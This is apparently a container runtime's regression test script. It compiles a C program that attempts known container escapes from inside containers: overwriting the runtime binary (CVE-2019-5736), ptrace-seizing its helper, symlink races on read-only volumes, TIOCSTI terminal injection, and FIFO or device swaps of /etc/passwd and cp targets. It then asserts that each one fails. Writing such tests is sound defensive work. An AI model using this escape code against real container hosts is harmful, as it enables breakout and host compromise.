#!/bin/bash
# Container escapes (issue 10), each attack performed from inside a
# container by a static C program of the test's own:
#   binary   CVE-2019-5736: lrun exec'ing "#!/proc/self/exe" runs lrun in
#            the container; it holds the binary open and writes it once
#            nothing runs it any more (a second copy of lrun execs, as after
#            an upgrade)
#   ptrace   CVE-2016-9962: seize lrun's exec helper (with CAP_SYS_PTRACE)
#            while it is not yet confined; read its environment
#   environ  the host's environment in the --init reaper's /proc/1/environ
#   passwd   CVE-2024-9676: the container's /etc/passwd a FIFO, /dev/zero,
#            a symlink to what lrun holds (exec and start read it)
#   keyring  the host's session keyring shared with the container
#   /proc/interrupts  masked, as docker does
#   volume   CVE-2021-30465: a container sharing a volume swaps another's
#            :ro target (a directory) with a symlink, to land the read-only
#            remount elsewhere and keep the volume writable
#   stdio    CVE-2017-5226: TIOCSTI into the caller's terminal; read, chmod
#            and truncate the caller's "> file" through /proc/self/fd/1
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/ctr-test.sh"
command -v gcc >/dev/null || skip_all "needs gcc (static attack program)"
ctr_start

mkdir -p "$T/attack" "$T/out"
cat >"$T/attack.c" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <linux/fs.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
static int exists(const char *p) { return access(p, F_OK) == 0; }

/* read a /proc file into buf (NULs become spaces); length or -1 */
static int slurp(const char *path, char *buf, int cap)
{
	int fd = open(path, O_RDONLY), n, total = 0;
	if (fd < 0) return -1;
	while (total < cap - 1 && (n = read(fd, buf + total, cap - 1 - total)) > 0) total += n;
	close(fd);
	for (int i = 0; i < total; i++) if (!buf[i]) buf[i] = ' ';
	buf[total] = 0;
	return total;
}

static int max_pid(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int m = 0;
	while ((e = readdir(d))) { int p = atoi(e->d_name); if (p > m) m = p; }
	closedir(d);
	return m;
}

/* binary OUT: find lrun's "login" process, hold its exe, then try to open
 * it for writing until OUT/stop appears */
static int binary(const char *out)
{
	char path[256], buf[4096], res[256] = "exe not caught";
	int exe = -1, pid = 0;
	FILE *f;
	snprintf(path, sizeof path, "%s/ready", out);
	close(open(path, O_WRONLY | O_CREAT, 0644));
	snprintf(path, sizeof path, "%s/stop", out);
	double end = now() + 20;
	while (exe < 0 && now() < end && !exists(path)) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (exe < 0 && (e = readdir(d))) {
			char p[64];
			int n = atoi(e->d_name);
			if (n <= 1 || n == getpid()) continue;
			snprintf(p, sizeof p, "/proc/%d/cmdline", n);
			if (slurp(p, buf, sizeof buf) > 0 && strstr(buf, " login ")) {
				snprintf(p, sizeof p, "/proc/%d/exe", n);
				exe = open(p, O_RDONLY);
				pid = n;
			}
		}
		closedir(d);
	}
	if (exe >= 0) {
		char self[64];
		int last = 0;
		snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
		snprintf(res, sizeof res, "exe of pid %d held; write: never tried", pid);
		while (!exists(path) || last == ETXTBSY) {
			int w = open(self, O_WRONLY);
			if (w >= 0) {
				pwrite(w, "PWNED", 5, 0);
				close(w);
				snprintf(res, sizeof res, "exe held; write: PWNED");
				break;
			}
			last = errno;
			snprintf(res, sizeof res, "exe held; write: %s", strerrorname_np(last));
			if (now() > end) break;
			usleep(5000);
		}
	}
	snprintf(path, sizeof path, "%s/result", out);
	f = fopen(path, "w");
	fprintf(f, "%s\n", res);
	fclose(f);
	return 0;
}

/* ptrace OUT MARK: seize every new pid; a seized process that is not yet
 * under seccomp, or whose environment holds MARK, is a finding */
static int tracer(const char *out, const char *mark)
{
	char path[256], buf[65536], stop[256];
	int seized = 0, unconfined = 0, leaked = 0, next = max_pid() + 1;
	snprintf(path, sizeof path, "%s/ready", out);
	close(open(path, O_WRONLY | O_CREAT, 0644));
	snprintf(stop, sizeof stop, "%s/stop", out);
	double end = now() + 25;
	for (long spins = 0; now() < end; spins++) {
		if (spins % 4096 == 0 && exists(stop)) break;
		for (int p = next; p < next + 3; p++) {
			if (ptrace(PTRACE_SEIZE, p, 0, 0) < 0) continue;
			ptrace(PTRACE_INTERRUPT, p, 0, 0);
			int st;
			waitpid(p, &st, __WALL);
			seized++;
			snprintf(path, sizeof path, "/proc/%d/status", p);
			if (slurp(path, buf, sizeof buf) > 0 && strstr(buf, "Seccomp:\t0")) unconfined++;
			snprintf(path, sizeof path, "/proc/%d/environ", p);
			if (slurp(path, buf, sizeof buf) > 0 && strstr(buf, mark)) leaked++;
			ptrace(PTRACE_DETACH, p, 0, 0);
			next = p + 1;
		}
		if (spins % 256 == 0) { int m = max_pid(); if (m >= next) next = m + 1; }
	}
	snprintf(path, sizeof path, "%s/result", out);
	FILE *f = fopen(path, "w");
	fprintf(f, "seized %s\nunconfined %d\nenvironment %d\n", seized ? "some" : "none", unconfined, leaked);
	fclose(f);
	return 0;
}

/* stdio: what the container can do to the caller's 0-2 */
static int stdio_attack(void)
{
	char buf[256] = "";
	int fd = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK), n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
	fprintf(stderr, "read: %s\n", n > 0 ? buf : "nothing");
	fchmod(1, 0666);
	ftruncate(1, 0);
	for (int i = 0; i < 3; i++) {
		char c = 'x';
		int r = ioctl(i, TIOCSTI, &c);
		fprintf(stderr, "TIOCSTI %d: %s\n", i, r == 0 ? "ok" : strerrorname_np(errno));
	}
	printf("written\n");
	return 0;
}

/* swap DIR: DIR/x (a directory) and DIR/y (a symlink to /proc) trade
 * names as fast as they can, until DIR/stop appears */
static int swap(const char *dir)
{
	char x[256], y[256], stop[256];
	snprintf(x, sizeof x, "%s/x", dir);
	snprintf(y, sizeof y, "%s/y", dir);
	snprintf(stop, sizeof stop, "%s/stop", dir);
	mkdir(x, 0755);
	symlink("/proc", y);
	snprintf(stop, sizeof stop, "%s/ready", dir);
	close(open(stop, O_WRONLY | O_CREAT, 0644));
	snprintf(stop, sizeof stop, "%s/stop", dir);
	for (long i = 0;; i++) {
		syscall(SYS_renameat2, AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE);
		if (i % 4096 == 0 && exists(stop)) return 0;
	}
}

/* flip DIR: DIR/f (a regular file) and DIR/g (a FIFO) trade names as
 * fast as they can, until DIR/stop appears: a copy that stats f, then
 * opens it, opens the FIFO (or a device) outside the container */
static int flip(const char *dir)
{
	char f[256], g[256], stop[256];
	snprintf(f, sizeof f, "%s/f", dir);
	snprintf(g, sizeof g, "%s/g", dir);
	snprintf(stop, sizeof stop, "%s/stop", dir);
	int fd = open(f, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	write(fd, "plain\n", 6);
	close(fd);
	mkfifo(g, 0644);
	for (long i = 0;; i++) {
		syscall(SYS_renameat2, AT_FDCWD, f, AT_FDCWD, g, RENAME_EXCHANGE);
		if (i % 4096 == 0 && exists(stop)) return 0;
	}
}

int main(int argc, char **argv)
{
	if (argc > 2 && !strcmp(argv[1], "swap")) return swap(argv[2]);
	if (argc > 2 && !strcmp(argv[1], "flip")) return flip(argv[2]);
	if (argc > 1 && !strcmp(argv[1], "keyring")) { /* KEYCTL_GET_KEYRING_ID of KEY_SPEC_SESSION_KEYRING */
		printf("%ld\n", syscall(SYS_keyctl, 0, -3, 0));
		return 0;
	}
	if (argc > 1 && !strcmp(argv[1], "stdio")) return stdio_attack();
	if (argc > 2 && !strcmp(argv[1], "binary")) return binary(argv[2]);
	if (argc > 3 && !strcmp(argv[1], "ptrace")) return tracer(argv[2], argv[3]);
	return 2;
}
EOF
gcc -static -O2 -o "$T/attack/attack" "$T/attack.c" 2>"$T/gcc.err" || bail "cannot build the attack program: $(cat "$T/gcc.err")"
ATTACK=(-v "$T/attack:/attack:ro" -v "$T/out:/out")
MARK=lrun_host_secret_$$
export LRUN_TEST_SECRET=$MARK

# ------------------------------------------ CVE-2019-5736: the binary --
# exec runs another copy of lrun than the container's monitor (an upgrade):
# once that copy's exec returns, nothing on the host runs it any more
printf '#!/proc/self/exe login\n' >"$T/attack/evil"
chmod 755 "$T/attack/evil"
cp "$LRUN" "$T/lrun-copy"
before=$(sha256 "$T/lrun-copy")
run $TO "$LRUN" --root "$R" run -d --name bin "${ATTACK[@]}" "$IMG" /attack/attack binary /out
is "$rc" 0 "a container that waits for lrun's binary to show up"
wait_for 10 test -e "$T/out/ready"
run $TO sh -c 'sleep 1 | "$0" --root "$1" exec -i bin /attack/evil' "$T/lrun-copy" "$R"
like "$err" "Username: " "exec of #!/proc/self/exe ran lrun's binary in the container (lrun login asked)"
touch "$T/out/stop"
wait_for 10 test -e "$T/out/result"
like "$(cat "$T/out/result")" '^exe held; write: EROFS$' \
	"the container held lrun's exe; opening it for writing fails with EROFS once nothing runs it"
is "$(sha256 "$T/lrun-copy")" "$before" "the host's lrun binary is unchanged"
run "$T/lrun-copy" version
is "$rc" 0 "  and still runs"
"$LRUN" --root "$R" rm -f bin >/dev/null 2>&1
rm -f "$T/out/"*

# ------------------------------------- CVE-2016-9962: ptrace the helper --
run $TO "$LRUN" --root "$R" run -d --name tr --cap-add SYS_PTRACE "${ATTACK[@]}" "$IMG" /attack/attack ptrace /out "$MARK"
is "$rc" 0 "a container with CAP_SYS_PTRACE that seizes every new process"
wait_for 10 test -e "$T/out/ready"
fails=0
for i in $(seq 15); do
	"$LRUN" --root "$R" exec tr true >/dev/null 2>&1 || fails=$((fails + 1))
done
is "$fails" 0 "15 execs into it succeed"
touch "$T/out/stop"
wait_for 10 test -e "$T/out/result"
is "$(cat "$T/out/result")" "seized some
unconfined 0
environment 0" "it seized processes, but none of lrun's before seccomp, and none with the host's environment"
"$LRUN" --root "$R" rm -f tr >/dev/null 2>&1
rm -f "$T/out/"*

# ------------------------------------------------ the host environment --
run $TO "$LRUN" --root "$R" run --rm --init "$IMG" sh -c \
	'cat /proc/1/environ >/dev/null 2>&1; echo $?; cat /proc/1/environ 2>/dev/null | grep -c LRUN_TEST_SECRET'
is "$out" $'1\n0\n' "--init: the reaper's /proc/1/environ cannot be read (not dumpable)"
run $TO "$LRUN" --root "$R" run --rm --init --cap-add SYS_PTRACE "$IMG" sh -c 'tr -d "\0" </proc/1/environ | wc -c'
is "$rc|$out" $'0|0\n' "--init with CAP_SYS_PTRACE: /proc/1/environ holds nothing but NUL bytes (the host's environment is wiped)"
run $TO "$LRUN" --root "$R" run --rm "$IMG" sh -c 'cat /proc/self/environ | tr "\0" "\n" | grep -c LRUN_TEST_SECRET'
is "$out" $'0\n' "the container's process has none of lrun's environment"
run $TO "$LRUN" --root "$R" run --rm --init --cap-add SYS_PTRACE "$IMG" sh -c 'ls -l /proc/1/exe >/dev/null && echo x >>/proc/1/exe'
like "$err" 'Read-only file system|Text file busy' "--init: the reaper's exe cannot be opened for writing"

# ---------------------------------------- keyring, /proc/interrupts --
host_ring=$("$T/attack/attack" keyring)
run $TO "$LRUN" --root "$R" run --rm --security-opt seccomp=unconfined "${ATTACK[@]}" "$IMG" /attack/attack keyring
ring1=$out
run $TO "$LRUN" --root "$R" run --rm --security-opt seccomp=unconfined "${ATTACK[@]}" "$IMG" /attack/attack keyring
ok "$([ -n "$ring1" ] && [ "$ring1" != "$host_ring"$'\n' ] && [ "$out" != "$ring1" ]; echo $?)" \
	"each container has a session keyring of its own, not the host's ($host_ring, ${ring1%$'\n'}, ${out%$'\n'})"
run $TO "$LRUN" --root "$R" run -d --name kr --security-opt seccomp=unconfined "${ATTACK[@]}" "$IMG" sleep 60
run $TO "$LRUN" --root "$R" exec kr /attack/attack keyring
ok "$([ "$out" != "$host_ring"$'\n' ]; echo $?)" "  exec's process too"
"$LRUN" --root "$R" rm -f kr >/dev/null 2>&1
run $TO "$LRUN" --root "$R" run --rm "$IMG" sh -c 'wc -c </proc/interrupts'
is "$rc|$out" $'0|0\n' "/proc/interrupts is masked (docker's current list)"

# -------------------------------------------- CVE-2021-30465: :ro volumes --
mkdir -p "$T/shared" "$T/ro"
run $TO "$LRUN" --root "$R" run -d --name swapper -v "$T/shared:/shared" "${ATTACK[@]}" "$IMG" /attack/attack swap /shared
wait_for 10 test -e "$T/shared/ready"
runs=0
for i in $(seq 12); do
	run $TO "$LRUN" --root "$R" run --rm -v "$T/shared:/data" -v "$T/ro:/data/x:ro" "$IMG" \
		sh -c 'touch /data/x/pwn-$0 /data/y/pwn-$0 2>/dev/null; true' "$i"
	[ "$rc" = 0 ] && runs=$((runs + 1))
done
touch "$T/shared/stop"
"$LRUN" --root "$R" rm -f swapper >/dev/null 2>&1
ok "$([ "$runs" -gt 0 ]; echo $?)" "containers ran while another swapped their :ro volume's target ($runs of 12)"
is "$(ls "$T/ro")" "" "  in none of them the read-only volume was writable (nothing written to its host directory)"

# ------------------------------------------- the caller's terminal, files --
ctty() { script -qec "$*" /dev/null </dev/null | tr -d '\r'; }
out=$(ctty timeout -k 5 30 "$LRUN" --root "$R" run --rm "${ATTACK[*]}" "$IMG" /attack/attack stdio)
like "$out" 'TIOCSTI 0: ENOTTY.*TIOCSTI 1: ENOTTY.*TIOCSTI 2: ENOTTY' \
	"run on a terminal, without -t: TIOCSTI on 0, 1 and 2 fails with ENOTTY (pipes, not the caller's terminal)"
like "$out" 'written' "  and its output still reaches the terminal"
out=$(ctty "echo in | timeout -k 5 30 $LRUN --root $R run --rm -i ${ATTACK[*]} $IMG /attack/attack stdio")
like "$out" 'TIOCSTI 0: ENOTTY.*TIOCSTI 1: ENOTTY.*TIOCSTI 2: ENOTTY' "  likewise with -i"
run $TO "$LRUN" --root "$R" run -d --name io "${ATTACK[@]}" "$IMG" sleep 60
out=$(ctty timeout -k 5 30 "$LRUN" --root "$R" exec io /attack/attack stdio)
like "$out" 'TIOCSTI 0: ENOTTY.*TIOCSTI 1: ENOTTY.*TIOCSTI 2: ENOTTY' "exec on a terminal, without -t: ENOTTY on 0, 1 and 2"
out=$(ctty "echo in | timeout -k 5 30 $LRUN --root $R exec -i io /attack/attack stdio")
like "$out" 'TIOCSTI 0: ENOTTY.*TIOCSTI 1: ENOTTY.*TIOCSTI 2: ENOTTY' "  likewise with -i"
# the caller's terminal must not stay the container's controlling one
# (runc and crun make a new session): /dev/tty opened it, to read the
# user's keys or TIOCSTI into the shell (dev.tty.legacy_tiocsti)
out=$(ctty "timeout -k 5 30 $LRUN --root $R run --rm $IMG sh -c '{ echo x >/dev/tty; } 2>/dev/null && echo TTY; echo end'")
is "$out" "end" "run on a terminal, without -t: /dev/tty does not open the caller's terminal"
out=$(ctty "timeout -k 5 30 $LRUN --root $R exec io sh -c '{ echo x >/dev/tty; } 2>/dev/null && echo TTY; echo end'")
is "$out" "end" "  nor in exec without -t"
"$LRUN" --root "$R" rm -f io >/dev/null 2>&1

echo "the caller's secret" >"$T/file"
chmod 640 "$T/file"
run $TO sh -c '"$0" --root "$1" run --rm -v "$2/attack:/attack:ro" "$3" /attack/attack stdio >>"$2/file"' "$LRUN" "$R" "$T" "$IMG"
is "$rc" 0 "run >> file: the container ran"
like "$err" '^read: nothing' "  it could not read the file's earlier content through /proc/self/fd/1"
is "$(stat -c %a "$T/file")" 640 "  nor chmod the file"
is "$(cat "$T/file")" "the caller's secret
written" "  nor truncate it; its output was appended"

# ----------------------------------- cp: a FIFO or device swapped in --
# the container trades a file and a FIFO as fast as it can while cp copies
# their directory out: cp, which runs outside the container's device
# cgroup, must never open what is not a regular file (a FIFO hangs it; a
# device node would read the host's disk or arm its watchdog)
run $TO "$LRUN" --root "$R" run -d --name fl --network none "${ATTACK[@]}" "$IMG" sh -c 'mkdir /d && mkfifo /p && /attack/attack flip /d'
is "$rc" 0 "a running container that swaps a file and a FIFO"
wait_for 10 test -n "$("$LRUN" --root "$R" exec fl ls /d 2>/dev/null)"
hung=0 copied=0 # the race is won about 1 in 15 copies: 50 fail without the fix but 2 in 100 runs
for i in $(seq 50); do
	timeout -k 1 2 "$LRUN" --root "$R" cp fl:/d "$T/cp$i" >/dev/null 2>&1
	case $? in 0) copied=$((copied + 1)) ;; 124 | 137) hung=$((hung + 1)); break ;; esac
done
is "$hung" 0 "50 copies out of the directory: none opened the FIFO (none hung); $copied of 50 copied"
plain=$(for f in "$T"/cp*/[fg]; do [ ! -f "$f" ] || cat "$f"; done | sort -u)
is "$plain" plain "  the regular file copied is the file's content"
rm -rf "$T"/cp*
run timeout -k 1 5 "$LRUN" --root "$R" cp "$T/file" fl:/p
is "$rc|$(timeout -k 1 5 "$LRUN" --root "$R" exec fl cat /p)" "0|$(cat "$T/file")" "cp onto a FIFO does not open it (no hang): the file replaces it"
# a device node the container made (a loop disk here: the host's own disk
# in the attack), mode 0666, and a file of uid 1234: copied out to the host
# the node landed there for any local user to open, and uid 1234 owned
# the copy; podman's cp leaves devices out and gives the copy to the caller
"$LRUN" --root "$R" exec fl sh -c 'mkdir /x && mknod -m 666 /x/disk b 7 0 && echo a >/x/f && chown 1234:2345 /x/f'
run $TO "$LRUN" --root "$R" cp fl:/x "$T/x"
is "$rc|$(cd "$T/x" && stat -c '%n %u:%g' * 2>&1)" "0|f 0:0" "cp out to the host: no device node, the file is the caller's"
"$LRUN" --root "$R" rm -f -t 0 fl >/dev/null 2>&1

# ---------------------------------------------- /etc/passwd, /etc/group --
# the container's own loop does the swaps (an exec would read the files itself)
run $TO "$LRUN" --root "$R" run -d --name pw "${ATTACK[@]}" "$IMG" sh -c \
	'while :; do if [ -e /out/cmd ]; then sh /out/cmd; rm /out/cmd; fi; sleep 0.05; done'
is "$rc" 0 "a running container that will swap its /etc/passwd"
swap() {
	echo "rm -f /etc/$1 && $2" >"$T/out/cmd.new" && mv "$T/out/cmd.new" "$T/out/cmd"
	wait_for 10 test ! -e "$T/out/cmd"
}
pw_exec() { run timeout -k 2 10 "$LRUN" --root "$R" exec "$@" pw id -u; }
swap passwd 'mkfifo /etc/passwd'
pw_exec -u app
like "$rc|$err" "^255\|Error: the container's /etc/passwd is not a regular file" "exec -u app, /etc/passwd a FIFO: exit 255 at once (podman's for a session that cannot start), a clear error (no hang)"
run timeout -k 2 10 "$LRUN" --root "$R" exec pw echo ran
is "$rc|$out" $'0|ran\n' "  root (numeric) runs without reading it"
swap passwd 'mknod /etc/passwd c 1 5'
pw_exec -u app
like "$rc|$err" "^255\|Error: the container's /etc/passwd(: Permission denied| is not a regular file)" \
	"/etc/passwd the zero device: refused (not opened on a nodev root, else not regular), memory does not grow"
swap passwd 'ln -s /proc/self/environ /etc/passwd'
pw_exec -u app
like "$rc|$err" "^255\|Error: (the container's /etc/passwd is not a regular file|unable to find user app: no matching)" \
	"/etc/passwd a symlink to procfs: followed inside the root only, never read (lrun's own environ)"
swap passwd 'echo "app:x:1000:1000::/home/app:/bin/sh" >/etc/passwd; rm /etc/group; mkfifo /etc/group'
pw_exec -u app:app
like "$rc|$err" "^255\|Error: the container's /etc/group is not a regular file" "/etc/group a FIFO: refused too"
swap group 'head -c 9000000 /dev/zero | tr "\\0" a >/etc/group'
pw_exec -u app:app
like "$rc|$err" "^255\|Error: the container's /etc/group is larger than 8 MiB" "/etc/group of 9 MB: refused (a size cap)"
swap group 'echo "app:x:1000:" >/etc/group'
pw_exec -u app
is "$rc|$out" $'0|1000\n' "regular files again: exec -u app works"
"$LRUN" --root "$R" rm -f pw >/dev/null 2>&1
run $TO "$LRUN" --root "$R" run --name pw2 "$IMG" sh -c 'rm /etc/passwd && mkfifo /etc/passwd'
run timeout -k 2 10 "$LRUN" --root "$R" start -a pw2
is "$rc" 0 "start of a container whose layer made /etc/passwd a FIFO: no hang (root needs no lookup: the command runs)"
"$LRUN" --root "$R" rm -f pw2 >/dev/null 2>&1

done_testing
